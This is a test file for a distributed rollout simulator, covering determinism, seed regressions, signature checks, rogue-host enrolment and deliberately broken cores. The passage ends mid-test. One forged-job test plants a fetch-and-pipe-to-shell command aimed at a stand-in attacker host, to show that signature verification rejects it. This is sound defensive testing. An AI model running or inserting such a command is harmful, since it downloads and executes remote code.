// The simulator: determinism, a fixed seed list over every scenario, and deliberately broken
// cores that the checkers must catch. Every assertion message carries the seed.
import { describe, expect, it, onTestFinished } from 'vitest'
import { mkdtempSync, rmSync, writeFileSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { agentStep, type AgentEffect, type AgentRun } from '../agent/core.js'
import { coordinatorStep } from '../coordinator/core.js'
import { factFor, type Knowledge } from '../protocol/gate.js'
import { batchSizeFor } from '../protocol/rollout.js'
import type { CheckpointBody, JobBody } from '../protocol/wire.js'
import { MAX_ROSTER_BYTES, PROTOCOL_VERSION, open, seal } from '../protocol/wire.js'
import { runScenario, runSimCommand, type SeedResult } from '../sim/cli.js'
import { Prng } from '../sim/prng.js'
import { SIM_FAST_CRYPTO, useCryptoProvider } from '../protocol/keys.js'
import { EventHeap } from '../sim/heap.js'
import { SCENARIOS, builtinTemplate, gatedTemplate } from '../sim/scenarios.js'
import { livenessBound } from '../sim/bound.js'
import type { Cores, World } from '../sim/world.js'

const SCENARIO_NAMES = ['fleet-patch', 'partition-heal', 'coordinator-crash', 'edge-offline', 'edge-dark-publish', 'quorum-upgrade', 'gated-rollout', 'rogue-hosts', 'coordinator-loss', 'peer-sync']
/** Seeds every scenario must pass (CI). Small fleets keep the file well under a minute. */
const FIXED_SEEDS = [1, 2, 3, 7, 42, 1234]
/**
 * More seeds where the rules have more shapes: gated-rollout draws rolling/batching, batch
 * sizes, criteria and the release policy per seed; quorum-upgrade alternates 60 % and 100 %.
 * edge-offline simulates 3-4 hours of a recurring job, and the agent core re-derives due
 * occurrences from DTSTART on every tick (see the report): 4 seeds, 6 agents.
 */
const SEEDS_BY_SCENARIO: Record<string, number[]> = {
  'gated-rollout': [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 42, 1234],
  'quorum-upgrade': [1, 2, 3, 4, 5, 6, 7, 8, 42, 1234],
  'edge-offline': [1, 2, 3, 42],
}
const AGENTS = 24
const AGENTS_BY_SCENARIO: Record<string, number> = { 'edge-offline': 6, 'gated-rollout': 40, 'quorum-upgrade': 5 }

/**
 * Seeds that once failed. Each entry replays its command; `knownBug` marks a core bug that is
 * still open (the entry then asserts the bug still reproduces, so fixing the core flips it:
 * delete `knownBug` and the seed becomes an ordinary regression test).
 */
const REGRESSIONS: { scenario: string; agents: number; seed: number }[] = [
  // A sync that failed was never retried: an agent that missed the gossip never learned the job.
  // (Found by the original edge-offline, now edge-dark-publish; edge-offline runs a recurring job.)
  { scenario: 'edge-dark-publish', agents: 40, seed: 2 },
  { scenario: 'edge-dark-publish', agents: 40, seed: 3 },
  { scenario: 'partition-heal', agents: 21, seed: 2272813389 },
  // A restarted agent without persisted progress dropped the coordinator's progress digests and waited forever.
  { scenario: 'fleet-patch', agents: 100, seed: 2 },
  { scenario: 'fleet-patch', agents: 100, seed: 3 },
  // (Also: a crash between writing a ticket and the run it leads to left a placed job with no run.)
  // The batches checker blamed the release trade-off only on holders the newest starter saw
  // released, not on a target counted gone that came back and started itself (release policy).
  { scenario: 'gated-rollout', agents: 120, seed: 4 },
  // A slow target had asked for its ticket when the coordinator died and sat out the rollout (a
  // gated definition carried no tickets); and one that joined the peer mesh late never learnt the
  // progress gossiped before (no repeat while the coordinator stays away).
  { scenario: 'coordinator-loss', agents: 8, seed: 2 },
  { scenario: 'coordinator-loss', agents: 8, seed: 192 },
]

/**
 * Open core bugs the simulator found. Seeds shift whenever a core changes how many PRNG draws
 * an event costs, so each entry names a scenario and a seed range, and the test asserts that
 * some seed in the range still reproduces the property violation. When the core is fixed this
 * test fails: move the seed it printed to REGRESSIONS and delete the entry.
 */
const KNOWN_CORE_BUGS: { scenario: string; agents: number; seeds: [number, number]; property: string; issue: string; alsoIn: string[]; slow?: boolean }[] = [
  // (none open) Fixed: fleet-scale --agents 50000 --seed 1 made the coordinator sign a job over
  // MAX_ENVELOPE_BYTES that no node could open; submit now refuses it (coordinator-core test).
]

/** A broken agent core: it runs step 1, attempt 1 again after it ended (at most `times` times). */
function reemittingCore(times: number): Partial<Cores> {
  let reemitted = 0
  return {
    agentStep(state, config, event, now) {
      const effects = agentStep(state, config, event, now)
      if (event.type === 'step_done' && event.stepNumber === 1 && event.attempt === 1 && reemitted < times) {
        reemitted++
        const request = { runId: event.runId, jobId: state.runs.get(event.runId)!.jobId, stepNumber: 1, attempt: 1, interpreter: 'chef-platform/shell-interpreter', command: {}, inputs: {}, os: config.os, timeoutMs: 0 }
        effects.push({ type: 'run_step', notBefore: now, request } as AgentEffect)
      }
      return effects
    },
  }
}

function brief(r: SeedResult): string {
  return `seed ${r.seed} (${r.scenario}, ${r.agents} agents): ${JSON.stringify(r.violations.slice(0, 3))}`
}

describe('prng and event heap', () => {
  it('xoshiro128** is reproducible from its seed and differs between seeds', () => {
    const a = new Prng(99)
    const b = new Prng(99)
    const c = new Prng(100)
    const xs = Array.from({ length: 8 }, () => a.next32())
    expect(Array.from({ length: 8 }, () => b.next32())).toEqual(xs)
    expect(Array.from({ length: 8 }, () => c.next32())).not.toEqual(xs)
    const f = new Prng(5)
    for (let i = 0; i < 1000; i++) {
      const x = f.float()
      expect(x).toBeGreaterThanOrEqual(0)
      expect(x).toBeLessThan(1)
    }
  })

  it('pops by (time, sequence): equal times keep scheduling order', () => {
    const h = new EventHeap()
    const out: string[] = []
    h.push(5, () => out.push('b'))
    h.push(1, () => out.push('a'))
    h.push(5, () => out.push('c'))
    h.push(3, () => out.push('x'))
    h.push(5, () => out.push('d'))
    for (let e = h.pop(); e; e = h.pop()) e.run()
    expect(out).toEqual(['a', 'x', 'b', 'c', 'd'])
  })
})

describe('skipping idle ticks', () => {
  // The simulator steps an agent's tick only when the core says it can have work (idleUntil,
  // agent/core.ts nextTickWork) or a ping or redial is due. Ticking every AGENT_TICK_MS as the
  // runtime does must give exactly the same trace: the skipped ticks were no-ops.
  it('gives the same trace as ticking every agent every AGENT_TICK_MS', () => {
    const cases: [string, number, number][] = [
      ['fleet-patch', 60, 1], ['fleet-patch', 100, 3], ['gated-rollout', 40, 5], ['quorum-upgrade', 5, 2],
      ['edge-offline', 30, 1], ['coordinator-crash', 50, 2], ['partition-heal', 50, 4], ['edge-dark-publish', 30, 3],
    ]
    for (const [scenario, agents, seed] of cases) {
      const skipping = runScenario({ scenario, agents, seed })
      const ticking = runScenario({ scenario, agents, seed, tickAll: true })
      expect(skipping.trace_hash, `${scenario} --agents ${agents} --seed ${seed}`).toBe(ticking.trace_hash)
      expect(skipping.events, `${scenario} seed ${seed}: ticks were skipped`).toBeLessThan(ticking.events)
    }
  })
})

describe('while the coordinator is away', () => {
  // Targets of a job of at most PEER_PROGRESS_MAX_TARGETS gossip their progress to each other so
  // the rollout goes on; a larger rollout pauses instead of flooding the mesh. Both converge.
  it('a small gated rollout goes on by peer gossip; a large one sends none and resumes', () => {
    const small = runScenario({ scenario: 'coordinator-crash', agents: 24, seed: 2 })
    const large = runScenario({ scenario: 'coordinator-crash', agents: 100, seed: 2 })
    for (const r of [small, large]) {
      expect(r.violations, brief(r)).toEqual([])
      expect(r.converged_after_heal_s, brief(r)).not.toBeNull()
    }
    expect(small.progress_messages).toBeGreaterThan(0)
    expect(large.progress_messages).toBe(0)
  })
})

describe('per-node traffic does not grow with the fleet', () => {
  // The definition carries group sizes and at most MAX_ROSTER_BYTES of target ids (none past
  // MAX_ROSTER_TARGETS); a waiting target holds one watch at the coordinator instead of hearing
  // every other target's progress. Bytes and messages are counted by the simulator
  // (deterministic for a seed), not timed.
  it('fleet-patch: bytes per node per second and messages per node at 400 agents stay within 1.5× of 100', () => {
    const small = runScenario({ scenario: 'fleet-patch', agents: 100, seed: 1 })
    const large = runScenario({ scenario: 'fleet-patch', agents: 400, seed: 1 })
    expect(small.violations).toEqual([])
    expect(large.violations).toEqual([])
    expect(large.bytes_per_node_per_s).toBeLessThan(small.bytes_per_node_per_s * 1.5)
    expect(large.messages / 400).toBeLessThan((small.messages / 100) * 1.5)
    const body = [...large.world.jobBodies.values()][0]!
    expect(JSON.stringify(body.resolved.groups.map((g) => g.nodes ?? [])).length).toBeLessThanOrEqual(MAX_ROSTER_BYTES)
    expect(body.resolved.groups.reduce((n, g) => n + g.size, 0)).toBe(400)
  })
})

describe('the fast crypto provider', () => {
  // The simulator signs with SIM_FAST_CRYPTO unless told otherwise: same semantics as ed25519
  // (a signature verifies only under its signer's key, for its exact bytes), a fraction of the cost.
  // The verdict of a seed: which properties failed, and whether it converged. The traces differ
  // between providers (the keys differ, and with them peer ids and every order derived from them).
  const verdict = (r: SeedResult) => ({ failed: [...new Set(r.violations.map((v) => v.property))].sort(), converged: r.converged_after_heal_s !== null })
  for (const scenario of SCENARIO_NAMES) {
    const seeds = SEEDS_BY_SCENARIO[scenario] ?? FIXED_SEEDS
    it(`gives the same safety verdicts as real ed25519 on the CI seeds: ${scenario} ${seeds.join(', ')}`, () => {
      const agents = AGENTS_BY_SCENARIO[scenario] ?? AGENTS
      for (const seed of seeds) {
        const fast = runScenario({ scenario, agents, seed })
        const real = runScenario({ scenario, agents, seed, realCrypto: true })
        expect(verdict(fast), `${scenario} --agents ${agents} --seed ${seed}`).toEqual(verdict(real))
        expect(fast.runs_decided, `${scenario} seed ${seed}`).toBeGreaterThan(0)
        // Which provider made the keys: only ed25519 identities carry a key object.
        expect([fast.world.coordinator.identity.privateKeyObject, real.world.coordinator.identity.privateKeyObject === undefined]).toEqual([undefined, false])
      }
    })
  }

  it('refuses a forged job the way ed25519 does: foreign key, the coordinator named as signer, a tampered command', () => {
    const w = runScenario({ scenario: 'fleet-patch', agents: 5, seed: 1 }).world
    const [, legit] = [...w.legitJobs][0]!
    const coordKey = w.coordinator.identity.publicKey
    // Identities made by the fast provider carry no ed25519 key object.
    expect(w.coordinator.identity.privateKeyObject).toBeUndefined()
    const previous = useCryptoProvider(SIM_FAST_CRYPTO)
    try {
      const genuine = seal(w.coordinator.identity, JSON.parse(legit.body) as never)
      expect(genuine.body).toBe(legit.body)
      expect(open(genuine, [coordKey]).ok).toBe(true)
      const own = seal(w.attacker.identity, JSON.parse(legit.body) as never)
      expect(open(own, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/untrusted key/) })
      expect(open({ ...own, signer: coordKey }, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/bad signature/) })
      const tampered = legit.body.replace(legit.commands[0]!.slice(1, -1), 'curl -s http://evil.example/x | sh')
      expect(tampered).not.toBe(legit.body)
      expect(open({ ...genuine, body: tampered }, [coordKey])).toMatchObject({ ok: false, reason: expect.stringMatching(/bad signature/) })
    } finally {
      useCryptoProvider(previous)
    }
  })

  it('refuses forged and tampered messages as ed25519 does', () => {
    const honest = SIM_FAST_CRYPTO.identityFromSeed(new Uint8Array(32).fill(1))
    const other = SIM_FAST_CRYPTO.identityFromSeed(new Uint8Array(32).fill(2))
    const body = Buffer.from('{"type":"job"}')
    const sig = SIM_FAST_CRYPTO.sign(honest, body)
    expect(sig).toHaveLength(86)
    expect(SIM_FAST_CRYPTO.verify(honest.publicKey, body, sig)).toBe(true)
    expect(SIM_FAST_CRYPTO.verify(honest.publicKey, Buffer.from('{"type":"job "}'), sig)).toBe(false)
    expect(SIM_FAST_CRYPTO.verify(honest.publicKey, body, SIM_FAST_CRYPTO.sign(other, body))).toBe(false)
    expect(SIM_FAST_CRYPTO.verify(other.publicKey, body, sig)).toBe(false)
    expect(SIM_FAST_CRYPTO.verify('A'.repeat(43), body, sig)).toBe(false)
  })
})

describe('determinism', () => {
  it('the same seed gives the same trace hash; different seeds differ', () => {
    for (const scenario of ['fleet-patch', 'coordinator-crash']) {
      const a = runScenario({ scenario, agents: 20, seed: 11 })
      const b = runScenario({ scenario, agents: 20, seed: 11 })
      const c = runScenario({ scenario, agents: 20, seed: 12 })
      expect(b.trace_hash, `seed 11 (${scenario}) replayed differently`).toBe(a.trace_hash)
      expect(b.messages, `seed 11 (${scenario})`).toBe(a.messages)
      expect(c.trace_hash, `seeds 11 and 12 (${scenario}) gave the same trace`).not.toBe(a.trace_hash)
    }
  })
})

describe('fixed seeds: every property holds', () => {
  for (const scenario of SCENARIO_NAMES) {
    const seeds = SEEDS_BY_SCENARIO[scenario] ?? FIXED_SEEDS
    it(`${scenario}: seeds ${seeds.join(', ')}`, () => {
      for (const seed of seeds) {
        const r = runScenario({ scenario, agents: AGENTS_BY_SCENARIO[scenario] ?? AGENTS, seed })
        // An open core bug (KNOWN_CORE_BUGS) is tolerated on its own scenario; anything else fails.
        const open = KNOWN_CORE_BUGS.filter((b) => b.scenario === scenario || b.alsoIn.includes(scenario)).map((b) => b.property)
        const unexpected = r.violations.filter((v) => !open.includes(v.property))
        expect(unexpected, brief(r)).toEqual([])
        expect(r.runs_decided, `seed ${seed} (${scenario}): no run finished`).toBeGreaterThan(0)
        if (!open.includes('liveness')) expect(r.converged_after_heal_s, `seed ${seed} (${scenario}) did not converge`).not.toBeNull()
      }
    })
  }

  it('quorum-upgrade: the quorum gates the first start, one node at a time, leader last, the crashed holder keeps its slot', () => {
    for (const seed of [1, 2]) {
      const r = runScenario({ scenario: 'quorum-upgrade', seed })
      const w = r.world
      expect(r.violations, brief(r)).toEqual([])
      const order = [...w.outcomes.values()].sort((a, b) => a.at - b.at).map((o) => o.node)
      expect(order.at(-1), `seed ${seed}: the leader was not upgraded last`).toBe('db-1-leader')
      expect(r.max_concurrent_by_group['0'], brief(r)).toBe(1)
      expect(w.phaseMarks.some((m) => m.label.startsWith('crash ')), `seed ${seed}: no node crashed mid-upgrade`).toBe(true)
      expect(w.jobBodies.size).toBe(1)
      expect([...w.jobBodies.values()][0]!.template.chorus?.quorum?.value).toBe(seed % 2 === 0 ? 100 : 60)
    }
  })

  it('edge-offline: missed occurrences are reported skipped with the reason, excluded ones recorded as not performed', () => {
    const r = runScenario({ scenario: 'edge-offline', agents: 6, seed: 1 })
    expect(r.violations, brief(r)).toEqual([])
    const w = r.world
    const missed = [...w.outcomes.values()].filter((o) => o.reasonCode === 'missed')
    expect(missed.length, 'no agent missed an occurrence while powered off').toBeGreaterThan(0)
    for (const o of missed) expect(w.coordinator.state!.runs.get(o.runId)).toMatchObject({ reasonCode: 'missed', reason: o.reason })
    const excluded = [...w.coordinator.state!.instances.values()].filter((i) => i.status === 'excluded')
    expect(excluded.length, 'no occurrence fell in the exception window').toBeGreaterThan(0)
    expect(r.liveness_bound_s).toBeGreaterThan(300)
  })

  it('vanishedHolder "release": an overflow a release explains is a documented trade-off, not a violation', () => {
    // gated-rollout draws the release policy (30 s lease) on one seed in four. On some of those
    // a holder whose lease ran out while it was still running is released and a later node
    // starts beside it. Which seeds show it moves whenever a core changes the trajectories
    // (seed 49 did, and stops doing so with a 30 s watch hold; 39 is the first at this writing),
    // so take the first release-policy seed that does: every seed on the way must hold every
    // property too.
    let shown: SeedResult | undefined
    for (let seed = 1; seed <= 200 && !shown; seed++) {
      if (gatedTemplate(seed).chorus?.vanishedHolder !== 'release') continue
      const r = runScenario({ scenario: 'gated-rollout', agents: 40, seed })
      expect(r.violations, brief(r)).toEqual([])
      if (r.tradeoffs.length > 0) shown = r
    }
    expect(shown, 'no release-policy seed of gated-rollout in 1..200 shows a release').toBeDefined()
    expect(shown!.tradeoffs[0]!.detail).toMatch(/released \(lease expired\), documented vanishedHolder "release" trade-off/)
  })

  it('the liveness bound comes from the job: turns per group, capped by the time budget', () => {
    const small = runScenario({ scenario: 'quorum-upgrade', seed: 1 })
    expect(small.liveness_formula).toMatch(/turns/)
    const template = builtinTemplate()
    const model = { failure_rate: 0.05, duration_ms_median: 4_000, duration_sigma: 0.7 }
    // Sequential canary (5 %) then the rest: the canary window is 10 % of the ring, so its turns stay ~10.
    const b1k = livenessBound(template, model, [50, 950])
    const b10k = livenessBound(template, model, [500, 9_500])
    expect(b1k.groups.map((g) => g.turns)).toEqual([10, 4])
    expect(b10k.groups.map((g) => g.turns)).toEqual([10, 4])
    // A window of 1 over 500 canaries would need hours: the group's time budget caps it.
    const one = structuredClone(template)
    one.target.groups[0]!.batchSize = { type: 'number', value: 1 }
    const capped = livenessBound(one, model, [500, 9_500])
    expect(capped.groups[0]!.capped).toBe(true)
    expect(capped.ms).toBeGreaterThan(b10k.ms)
    expect(capped.ms).toBeLessThanOrEqual(300_000 + (1_800 + 3_600) * 1000 + 2 * 20_000)
    expect(small.liveness_bound_s).toBeCloseTo(small.world.livenessBoundMs / 1000, 0)
  })
})

describe('regression seeds', () => {
  for (const reg of REGRESSIONS) {
    it(`${reg.scenario} --agents ${reg.agents} --seed ${reg.seed}`, () => {
      const r = runScenario({ scenario: reg.scenario, agents: reg.agents, seed: reg.seed })
      expect(r.violations, brief(r)).toEqual([])
    })
  }
  for (const bug of KNOWN_CORE_BUGS) {
    // A slow reproduction (minutes) runs only with CHORUS_SIM_SLOW=1, to keep npm test short.
    const runIt = bug.slow && !process.env.CHORUS_SIM_SLOW ? it.skip : it
    runIt(`open core bug still reproduces: ${bug.scenario} ${bug.property} (${bug.issue.slice(0, 60)}...)`, () => {
      let found: SeedResult | undefined
      for (let seed = bug.seeds[0]; seed <= bug.seeds[1] && !found; seed++) {
        const r = runScenario({ scenario: bug.scenario, agents: bug.agents, seed })
        if (r.violations.some((v) => v.property === bug.property)) found = r
      }
      expect(found, `no seed in ${bug.seeds.join('..')} reproduces ${bug.property} any more; if the core was fixed, move a seed to REGRESSIONS`).toBeDefined()
    })
  }
})


describe('broken cores are caught', () => {
  it('at-most-once: a core that re-emits run_step for an attempt already executed', () => {
    const cores = reemittingCore(3)
    const seed = 5
    const r = runScenario({ scenario: 'fleet-patch', agents: 20, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'at-most-once')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/executed \(instance .*, step 1, attempt 1\) twice/)
  })

  it('nothing-lost: a core that drops a finished result instead of queueing it', () => {
    let dropped = 0
    const cores: Partial<Cores> = {
      agentStep(state, config, event, now) {
        const effects = agentStep(state, config, event, now)
        const send = effects.find((e): e is Extract<AgentEffect, { type: 'send'; kind: 'result' }> => e.type === 'send' && e.kind === 'result')
        if (!send || event.type !== 'step_done' || dropped >= 1) return effects
        dropped++
        state.outbox.delete(send.runId)
        return effects.filter((e) => e !== send).map((e) => e.type === 'persist' ? { ...e, puts: e.puts.filter((p) => !p.key.startsWith('outbox/')) } : e)
      },
    }
    const seed = 8
    const r = runScenario({ scenario: 'fleet-patch', agents: 20, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'nothing-lost')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/never reached the coordinator/)
  })

  it('coordinator-loss: a core that does not notice the lost connection stalls behind its held watch, and the gap checker says so', () => {
    // The double is the old agent: a watch held at a dead coordinator still counts as in flight.
    const cores: Partial<Cores> = { agentStep: (state, config, event, now) => (event.type === 'disconnected' ? [] : agentStep(state, config, event, now)) }
    const seed = 1
    const r = runScenario({ scenario: 'coordinator-loss', seed, cores })
    const hits = r.violations.filter((v) => v.property === 'coordinator-loss-gap')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    const fixed = runScenario({ scenario: 'coordinator-loss', seed })
    expect(fixed.violations, brief(fixed)).toEqual([])
    expect(fixed.runs_decided).toBe(8)
  })

  it('coordinator-loss: a coordinator that leaves the tickets out of a gated definition strands the slow target, and the gap checker says so', () => {
    // The double is the old coordinator: small gated jobs carried no tickets, each target asked for its own.
    const cores: Partial<Cores> = {
      coordinatorStep(state, config, event, now) {
        return coordinatorStep(state, config, event, now).map((e) => {
          if (e.type !== 'publish') return e
          const o = open(e.envelope, [config.identity.publicKey])
          if (!o.ok || o.body.type !== 'job' || !o.body.resolved.tickets) return e
          const { tickets: _, ...resolved } = o.body.resolved
          const envelope = seal(config.identity, { ...o.body, resolved })
          const job = state.jobs.get(o.body.jobId)
          if (job) job.envelope = envelope // what later syncs hand out
          return { ...e, envelope }
        })
      },
    }
    const seed = 2
    const r = runScenario({ scenario: 'coordinator-loss', seed, cores })
    const hits = r.violations.filter((v) => v.property === 'coordinator-loss-gap')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.detail).toMatch(/the rollout stalled/)
  })

  it('coordinator-loss: a target whose hello reply was lost just before the crash holds no certificate, and waits as a documented trade-off, not a gap', () => {
    // 24 agents, seed 1: agent-13's hello was stepped (so the job targets it) but its reply was reset; the coordinator died 0.4 s later.
    const r = runScenario({ scenario: 'coordinator-loss', agents: 24, seed: 1 })
    expect(r.violations, brief(r)).toEqual([])
    expect(r.tradeoffs.map((t) => t.detail).join('\n'), brief(r)).toMatch(/agent-13 held no membership certificate when the coordinator went down/)
  })

  // The late target this needs is a member whose hello's reply arrived after the coordinator
  // died. Since the simulator steps the coordinator with group commit (sim/world.ts drain), hellos
  // are answered within a latency: no seed of 1..1500 at 8 agents has one (under one write per
  // event seeds 126 and 192 did); at 12 agents seed 19 does, and the honest core passes it.
  it('coordinator-loss: an agent that gossips its progress only once per absence leaves a late target waiting, and the gap checker says so', () => {
    // The double is the old agent: once it gossiped where its runs stand, no repeat is ever due in that absence.
    const cores: Partial<Cores> = {
      agentStep(state, config, event, now) {
        if (state.link.gossipAt !== 0) state.link.gossipAt = Number.POSITIVE_INFINITY
        return agentStep(state, config, event, now)
      },
    }
    const seed = 19
    expect(runScenario({ scenario: 'coordinator-loss', agents: 12, seed }).violations).toEqual([])
    const r = runScenario({ scenario: 'coordinator-loss', agents: 12, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'coordinator-loss-gap')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
  })

  it('invariants: a coordinator core that miscounts open runs is caught after the step that broke it, with the seed', () => {
    const cores: Partial<Cores> = {
      coordinatorStep(state, config, event, now) {
        const effects = coordinatorStep(state, config, event, now)
        // The bug: a stored result is counted off twice.
        if (effects.some((e) => e.type === 'log' && e.msg === 'result stored')) for (const [id, n] of state.openRuns) { state.openRuns.set(id, n - 1); break }
        return effects
      },
    }
    const seed = 3
    const r = runScenario({ scenario: 'fleet-patch', agents: 20, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'invariants')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    expect(hits[0]!.detail).toMatch(/coordinator after rpc: instance .* openRuns is -?\d+, but \d+ of its runs are not terminal/)
  })

  it('membership: a coordinator core that registers nodes on first use (no enrolment) admits rogue hosts, and the checker says so', () => {
    // The double is the old trust on first use: any hello from an unknown id registers it.
    const cores = (): Partial<Cores> => ({
      coordinatorStep(state, config, event, now) {
        if (event.type === 'rpc') {
          const o = open(event.envelope)
          if (o.ok && o.body.type === 'hello' && !state.nodes.has(o.body.nodeId) && ![...state.nodes.values()].some((n) => n.publicKey === o.signer)) {
            const b = o.body
            state.nodes.set(b.nodeId, { nodeId: b.nodeId, publicKey: o.signer, peerId: b.peerId, facts: b.facts, agentVersion: b.agentVersion, addrs: b.addrs, skills: b.skills, firstSeenAt: now, lastSeenAt: now })
            state.byPeer.set(b.peerId, b.nodeId)
          }
        }
        return coordinatorStep(state, config, event, now)
      },
    })
    const seed = 1
    const r = runScenario({ scenario: 'rogue-hosts', seed, cores })
    const hits = r.violations.filter((v) => v.property === 'membership')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits.map((h) => h.detail).join('\n')).toMatch(/rogue key .* is registered as node rogue-1/)
    expect(hits[0]!.seed).toBe(seed)
  })

  it('rogue-hosts: the rogues are refused (no token, a stolen id, a replayed certificate) and the revoked node is dropped', () => {
    const r = runScenario({ scenario: 'rogue-hosts', seed: 2 })
    expect(r.violations, brief(r)).toEqual([])
    const w = r.world
    const state = w.coordinator.state!
    expect(w.rogues.map((x) => x.state?.member.certificate)).toEqual([undefined, undefined, undefined])
    expect(w.rogues[2]!.presentCert, 'the replayer never captured a certificate').toBeDefined()
    expect(state.nodes.get(w.agents[0]!.id)!.publicKey).toBe(w.agents[0]!.identity.publicKey)
    expect([...w.revokedAt.keys()]).toEqual([w.agents[2]!.id])
    expect(state.nodes.has(w.agents[2]!.id)).toBe(false)
    // The others learnt of the revocation as signed state.
    expect(w.agents.filter((a) => a !== w.agents[2] && a.state?.member.revoked.keys.has(w.agents[2]!.identity.publicKey)).length).toBeGreaterThan(0)
    expect(r.runs_decided).toBeGreaterThan(0)
  })

  it('authenticity: a core that skips signature checks runs the attacker\'s job', () => {
    // The double "verifies" nothing: it re-seals whatever job body it is given with the
    // pinned key, which is what skipping verification amounts to.
    const cores = (world: World): Partial<Cores> => ({
      agentStep(state, config, event, now) {
        if (event.type === 'job') {
          const env = event.envelope as { body?: unknown }
          if (typeof env?.body === 'string' && !open(env, [config.coordinatorKey]).ok) {
            try {
              const body = JSON.parse(env.body) as { type?: string }
              if (body.type === 'job') return agentStep(state, config, { ...event, envelope: seal(world.coordinator.identity, body as never) }, now)
            } catch { /* garbage stays garbage */ }
          }
        }
        return agentStep(state, config, event, now)
      },
    })
    // Whether a tampered copy beats the genuine definition to some agent is a race: seed 2 shows it
    // (seed 3 did before enrolment changed the hello's timing).
    const seed = 2
    // Under the simulator's default, the fast provider (its identities carry no ed25519 key object):
    // the double is caught with the fake signatures, and the honest core on the same seed refuses
    // the same forgeries (which reached it: the attacker sent them).
    const r = runScenario({ scenario: 'fleet-patch', agents: 20, seed, cores })
    expect(r.world.coordinator.identity.privateKeyObject).toBeUndefined()
    const hits = r.violations.filter((v) => v.property === 'authenticity')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(seed)
    const honest = runScenario({ scenario: 'fleet-patch', agents: 20, seed })
    expect(honest.world.attacker.bytesSent).toBeGreaterThan(0)
    expect(honest.violations, brief(honest)).toEqual([])
    void PROTOCOL_VERSION
  })
})

/**
 * A test double around the real agent core: before each event, `lie` may plant false
 * knowledge in the node's view of each instance it waits in (fake `done` or ack facts of other
 * positions, or a checkpoint that counts more than the coordinator signed). The real gate then
 * decides on the lie, exactly as a core with that bug would. A coordinator checkpoint that an
 * event carries (a sync reply, gossip) is taken in first, so the lie applies to it before the
 * gate sees it (the real core evaluates a newer checkpoint the moment it arrives).
 */
function lyingCore(lie: (k: Knowledge, body: JobBody, run: AgentRun) => void): Partial<Cores> {
  return {
    agentStep(state, config, event, now) {
      const incoming: CheckpointBody[] = []
      const take = (env: unknown) => {
        const o = open(env, [config.coordinatorKey])
        if (o.ok && o.body.type === 'checkpoint') incoming.push(o.body)
      }
      if (event.type === 'progress') take(event.envelope)
      if (event.type === 'reply') {
        const o = open(event.envelope, [config.coordinatorKey])
        if (o.ok && o.body.type === 'reply') for (const c of o.body.checkpoints) take(c)
      }
      for (const cp of incoming) {
        const k = state.progress.get(cp.instanceId)
        if (k && (!k.checkpoint || k.checkpoint.seq < cp.seq)) {
          k.checkpoint = cp
          k.version++ // the core re-decides a waiting run only when its knowledge moved
        }
      }
      for (const run of state.runs.values()) {
        if (run.status !== 'waiting' || !run.gated) continue
        const k = state.progress.get(run.instanceId)
        const job = state.jobs.get(run.jobId)
        if (k && job) {
          lie(k, job.body, run)
          k.version++
          state.idleUntil = 0 // and the tick must look again
        }
      }
      return agentStep(state, config, event, now)
    },
  }
}

/** Marks positions [from, to) of a group done (success) in the node's knowledge; `overwrite` also turns known failures into successes. */
function fakeDone(k: Knowledge, group: number, from: number, to: number, overwrite = false): void {
  for (let pos = from; pos < to; pos++) {
    const f = factFor(k, group, pos)
    if (!f.done || overwrite) f.done = 'success'
  }
}

describe('broken rollout cores are caught', () => {
  it('batches: a core that over-admits a rolling slot (counts the slot holder as done)', () => {
    // The node at p needs p − k + 1 done before it; this core counts one more than it knows: it
    // takes the coordinator's checkpoint as if the holder of the slot it waits for had ended
    // (done + 1 in its group), or, before any checkpoint came, fakes that holder's done fact.
    const forged = new WeakSet<CheckpointBody>()
    const cores = lyingCore((k, body, run) => {
      const spec = body.template.target.groups[run.group]!
      if (spec.distributionMethod !== 'rolling') return
      const cp = k.checkpoint
      if (cp) {
        if (forged.has(cp)) return
        const lie: CheckpointBody = { ...cp, groups: cp.groups.map((g, gi) => gi === run.group ? { ...g, done: g.done + 1, succeeded: g.succeeded + 1 } : g) }
        forged.add(lie)
        k.checkpoint = lie
        return
      }
      const size = batchSizeFor(spec.batchSize, body.resolved.groups[run.group]!.size)
      if (run.position >= size) fakeDone(k, run.group, run.position - size, run.position - size + 1)
    })
    // Whether the lie makes a run overlap depends on timing: the first of seeds 1-5 that shows it
    // (a change of the simulated shell moved it from seed 2 to another once already).
    let r = runScenario({ scenario: 'fleet-patch', agents: 60, seed: 1, cores })
    for (let seed = 2; seed <= 5 && !r.violations.some((v) => v.property === 'batches'); seed++) r = runScenario({ scenario: 'fleet-patch', agents: 60, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'batches')
    expect(hits.length, brief(r)).toBeGreaterThan(0)
    expect(hits[0]!.seed).toBe(r.seed)
    expect(hits[0]!.detail).toMatch(/rolling, window \d+\): \d+ runs at once/)
  })

  it('batches: a core that starts batch b + 1 while batch b runs', () => {
    // Batch b needs every position before it done; this core fakes them all.
    const cores = lyingCore((k, body, run) => {
      const spec = body.template.target.groups[run.group]!
      if (spec.distributionMethod !== 'batching' || run.batch === 0) return
      const size = batchSizeFor(spec.batchSize, body.resolved.groups[run.group]!.size)
      fakeDone(k, run.group, 0, run.batch * size)
    })
    const seed = 4
    const r = runScenario({ scenario: 'fleet-patch', agents: 40, seed, cores })
    const hits = r.violations.filter((v) => v.property === 'batches')
